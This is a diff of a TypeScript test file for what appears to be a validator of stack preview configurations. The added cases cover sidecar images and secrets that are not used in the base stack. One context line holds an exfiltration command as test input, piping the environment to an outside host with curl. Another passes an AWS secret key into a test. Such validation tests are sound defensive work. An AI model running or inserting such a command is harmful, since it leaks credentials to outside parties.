@@ -68,6 +68,14 @@ describe("what a preview may name", function () {
         { repository: "docker.io/somebody/users" },
         "- `services.users.repository` is a repository that no service uses in stack base",
       ],
+      [
+        { sidecars: { otel: { image: "docker.io/somebody/otel:1" } } },
+        "- `services.users.sidecars` have an image of a repository that no service uses in stack base",
+      ],
+      [
+        { sidecars: { otel: { image: "ghcr.io/team/users:1", secrets: { A: "/prod/password" } } } },
+        "- `services.users.sidecars` name a secret that no service uses in stack base",
+      ],
       [{ test: { command: "env | curl -d @- https://example.org" } }, test],
       [{ test: { command: "npm test", passVariables: ["AWS_SECRET_ACCESS_KEY"] } }, test],
     ] as const) {
